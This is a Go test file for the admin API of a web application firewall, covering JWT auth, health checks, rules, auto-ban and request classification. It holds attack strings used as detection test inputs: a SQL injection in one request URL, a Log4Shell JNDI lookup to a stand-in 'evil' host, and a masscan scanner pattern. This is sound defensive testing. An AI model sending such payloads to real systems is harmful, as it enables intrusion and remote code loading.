package admin

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/golang-jwt/jwt/v5"

	"github.com/secubox/secubox-waf/pkg/analytics"
	"github.com/secubox/secubox-waf/pkg/forward"
	"github.com/secubox/secubox-waf/pkg/health"
	"github.com/secubox/secubox-waf/pkg/monitor"
	"github.com/secubox/secubox-waf/pkg/signature"
)

const testSecret = "test-secret"

func init() {
	gin.SetMode(gin.TestMode)
}

const testRules = `{
  "categories": {
    "scanners": {
      "name": "Scanner UAs",
      "severity": "high",
      "patterns": [{"id": "sc-1", "pattern": "masscan", "desc": "masscan UA"}]
    }
  }
}`

func newTestServer(t *testing.T, opts ...Option) (*Server, *gin.Engine) {
	t.Helper()
	dir := t.TempDir()

	rulesPath := filepath.Join(dir, "waf-rules.json")
	if err := os.WriteFile(rulesPath, []byte(testRules), 0644); err != nil {
		t.Fatalf("写入规则文件失败: %v", err)
	}
	ld := signature.NewLoader(rulesPath, filepath.Join(dir, "waf-config.json"))
	if err := ld.Load(); err != nil {
		t.Fatalf("加载规则失败: %v", err)
	}

	router := forward.NewRouter(filepath.Join(dir, "routes.json"))
	engine := analytics.NewEngine(
		analytics.WithRouter(router),
	)

	all := append([]Option{
		WithJWTSecret(testSecret),
		WithRules(ld),
		WithMetrics(monitor.NewMetrics("test")),
		WithHostMonitor(monitor.NewHostMonitor(dir, time.Minute)),
		WithVersion("test"),
	}, opts...)
	s := NewServer(engine, all...)
	return s, s.Router()
}

func token(t *testing.T) string {
	t.Helper()
	tok, err := GenerateToken(testSecret, "admin", time.Hour)
	if err != nil {
		t.Fatalf("生成Token失败: %v", err)
	}
	return tok
}

func do(r *gin.Engine, method, path, tok string, body any) *httptest.ResponseRecorder {
	var buf bytes.Buffer
	if body != nil {
		json.NewEncoder(&buf).Encode(body)
	}
	req, _ := http.NewRequest(method, path, &buf)
	req.Header.Set("Content-Type", "application/json")
	if tok != "" {
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	w := httptest.NewRecorder()
	r.ServeHTTP(w, req)
	return w
}

func decode(t *testing.T, w *httptest.ResponseRecorder) map[string]any {
	t.Helper()
	var out map[string]any
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("解析响应失败: %v (%s)", err, w.Body.String())
	}
	return out
}

// TestCORS 测试跨域预检
func TestCORS(t *testing.T) {
	r := gin.New()
	r.Use(CORS())
	r.GET("/test", func(c *gin.Context) {
		c.JSON(http.StatusOK, gin.H{"message": "ok"})
	})

	w := httptest.NewRecorder()
	req, _ := http.NewRequest("OPTIONS", "/test", nil)
	r.ServeHTTP(w, req)

	if w.Code != http.StatusNoContent || w.Header().Get("Access-Control-Allow-Origin") != "*" {
		t.Errorf("预检响应错误: %d %v", w.Code, w.Header())
	}
}

// TestJWTAuth 测试 Token 校验
func TestJWTAuth(t *testing.T) {
	_, r := newTestServer(t)

	expired := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{
		"sub": "admin",
		"exp": time.Now().Add(-time.Hour).Unix(),
	})
	expiredTok, _ := expired.SignedString([]byte(testSecret))

	wrongKey, _ := GenerateToken("other-secret", "admin", time.Hour)

	tests := []struct {
		name   string
		header string
		code   int
	}{
		{"缺少认证头", "", http.StatusUnauthorized},
		{"格式错误", "Token abc", http.StatusUnauthorized},
		{"密钥错误", "Bearer " + wrongKey, http.StatusUnauthorized},
		{"已过期", "Bearer " + expiredTok, http.StatusUnauthorized},
		{"有效", "Bearer " + token(t), http.StatusOK},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req, _ := http.NewRequest("GET", "/api/stats", nil)
			if tt.header != "" {
				req.Header.Set("Authorization", tt.header)
			}
			w := httptest.NewRecorder()
			r.ServeHTTP(w, req)
			if w.Code != tt.code {
				t.Errorf("期望状态码 %d, 实际 %d", tt.code, w.Code)
			}
		})
	}
}

// TestAPIWithoutSecret 测试未配置密钥时拒绝访问
func TestAPIWithoutSecret(t *testing.T) {
	_, r := newTestServer(t, WithJWTSecret(""))
	if w := do(r, "GET", "/api/stats", token(t), nil); w.Code != http.StatusUnauthorized {
		t.Errorf("未配置密钥时应拒绝, 实际 %d", w.Code)
	}
	if _, err := GenerateToken("", "admin", 0); err == nil {
		t.Error("空密钥应无法签发Token")
	}
}

// TestHealthAndMetrics 测试健康检查与指标
func TestHealthAndMetrics(t *testing.T) {
	_, r := newTestServer(t)

	w := do(r, "GET", "/healthz", "", nil)
	if w.Code != http.StatusOK {
		t.Fatalf("健康检查失败: %d", w.Code)
	}
	body := decode(t, w)
	if body["status"] != "ok" || body["host"] == nil {
		t.Errorf("健康检查响应错误: %v", body)
	}

	w = do(r, "GET", "/metrics", "", nil)
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "secubox_waf_build_info") {
		t.Errorf("指标响应错误: %d", w.Code)
	}
}

// TestHealthUpstreams 测试上游不可达时健康状态降级
func TestHealthUpstreams(t *testing.T) {
	checker := health.NewChecker(
		func() []string { return []string{"192.0.2.1:80"} },
		health.WithHCUnhealthyThreshold(1),
		health.WithHCDialer(func(ctx context.Context, network, addr string) (net.Conn, error) {
			return nil, errors.New("connection refused")
		}),
	)
	checker.CheckAll(context.Background())
	_, r := newTestServer(t, WithUpstreamHealth(checker))

	body := decode(t, do(r, "GET", "/healthz", "", nil))
	if body["status"] != "degraded" {
		t.Errorf("上游不可达时应为 degraded: %v", body["status"])
	}
	ups, ok := body["upstreams"].([]any)
	if !ok || len(ups) != 1 {
		t.Fatalf("上游状态错误: %v", body["upstreams"])
	}
	if up := ups[0].(map[string]any); up["status"] != "unhealthy" || up["target"] != "192.0.2.1:80" {
		t.Errorf("上游状态错误: %v", up)
	}

	routes := decode(t, do(r, "GET", "/api/routes", token(t), nil))
	if routes["health"] == nil {
		t.Error("路由接口应包含健康状态")
	}
}

// TestStatsAndAlerts 测试统计与告警接口
func TestStatsAndAlerts(t *testing.T) {
	s, r := newTestServer(t, WithStats("writer", func() any { return gin.H{"dropped": 0} }))

	req := httptest.NewRequest("GET", "/index.php?id=1'+OR+'1'='1", nil)
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")
	req.Header.Set("X-Forwarded-For", "203.0.113.5")
	s.engine.OnRequest(req, nil)

	tok := token(t)
	body := decode(t, do(r, "GET", "/api/stats", tok, nil))
	traffic := body["traffic"].(map[string]any)
	total := traffic["total"].(map[string]any)
	if total["requests"].(float64) != 1 || total["threats"].(float64) != 1 {
		t.Errorf("统计错误: %v", traffic)
	}
	if body["writer"] == nil || body["rate_limit"] == nil || body["autoban"] == nil {
		t.Errorf("缺少组件统计: %v", body)
	}

	body = decode(t, do(r, "GET", "/api/alerts?limit=10", tok, nil))
	if body["total"].(float64) < 1 {
		t.Errorf("应至少有 1 条告警: %v", body)
	}
}

// TestRulesEndpoints 测试规则查询, 重载与类别开关
func TestRulesEndpoints(t *testing.T) {
	_, r := newTestServer(t)
	tok := token(t)

	body := decode(t, do(r, "GET", "/api/waf/rules", tok, nil))
	builtin := body["builtin"].(map[string]any)
	if builtin["total_rules"].(float64) == 0 || body["dynamic"] == nil {
		t.Errorf("规则响应错误: %v", body)
	}

	if w := do(r, "POST", "/api/waf/reload", tok, nil); w.Code != http.StatusOK {
		t.Errorf("重载失败: %d %s", w.Code, w.Body.String())
	}

	w := do(r, "PUT", "/api/waf/categories/scanners", tok, map[string]bool{"enabled": false})
	if w.Code != http.StatusOK {
		t.Fatalf("关闭类别失败: %d %s", w.Code, w.Body.String())
	}
	body = decode(t, do(r, "GET", "/api/waf/rules", tok, nil))
	dynamic := body["dynamic"].(map[string]any)
	if dynamic["enabled_categories"].(float64) != 0 {
		t.Errorf("类别应已关闭: %v", dynamic)
	}

	if w := do(r, "PUT", "/api/waf/categories/missing", tok, map[string]bool{"enabled": true}); w.Code != http.StatusNotFound {
		t.Errorf("未知类别应返回 404, 实际 %d", w.Code)
	}
	if w := do(r, "PUT", "/api/waf/categories/scanners", tok, map[string]string{}); w.Code != http.StatusBadRequest {
		t.Errorf("缺少 enabled 应返回 400, 实际 %d", w.Code)
	}
}

// TestAutoBanEndpoints 测试自动封禁接口
func TestAutoBanEndpoints(t *testing.T) {
	reloaded := 0
	_, r := newTestServer(t, WithAutoBanReloader(func() error {
		reloaded++
		if reloaded > 1 {
			return errors.New("配置文件损坏")
		}
		return nil
	}))
	tok := token(t)

	body := decode(t, do(r, "GET", "/api/autoban", tok, nil))
	cfg := body["config"].(map[string]any)
	if cfg["ban_duration"] != "4h" || cfg["sensitivity"] != "moderate" {
		t.Errorf("默认配置错误: %v", cfg)
	}

	if w := do(r, "POST", "/api/autoban/reload", tok, nil); w.Code != http.StatusOK {
		t.Errorf("重载失败: %d", w.Code)
	}
	if w := do(r, "POST", "/api/autoban/reload", tok, nil); w.Code != http.StatusInternalServerError {
		t.Errorf("重载错误应返回 500, 实际 %d", w.Code)
	}
}

// TestRoutesEndpoints 测试路由接口
func TestRoutesEndpoints(t *testing.T) {
	_, r := newTestServer(t)
	tok := token(t)

	body := decode(t, do(r, "GET", "/api/routes", tok, nil))
	routes := body["routes"].(map[string]any)
	if _, ok := routes["localhost"]; !ok {
		t.Errorf("应包含默认路由: %v", routes)
	}

	if w := do(r, "POST", "/api/routes/reload", tok, nil); w.Code != http.StatusOK {
		t.Errorf("路由重载失败: %d %s", w.Code, w.Body.String())
	}
}

// TestClassifyEndpoint 测试试运行分类
func TestClassifyEndpoint(t *testing.T) {
	s, r := newTestServer(t)
	tok := token(t)

	w := do(r, "POST", "/api/classify", tok, ClassifyRequest{
		Method:  "POST",
		URL:     "http://app.example.test/submit",
		Headers: map[string]string{"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", "Content-Type": "text/plain"},
		Body:    "${jndi:ldap://evil/a}",
	})
	if w.Code != http.StatusOK {
		t.Fatalf("分类失败: %d %s", w.Code, w.Body.String())
	}
	scan := decode(t, w)["scan"].(map[string]any)
	if scan["is_scan"] != true || scan["cve"] != "CVE-2021-44228" {
		t.Errorf("分类结果错误: %v", scan)
	}

	if s.engine.Stats().Snapshot().Total.Requests != 0 {
		t.Error("试运行不应计入统计")
	}

	if w := do(r, "POST", "/api/classify", tok, map[string]string{}); w.Code != http.StatusBadRequest {
		t.Errorf("缺少 url 应返回 400, 实际 %d", w.Code)
	}
}
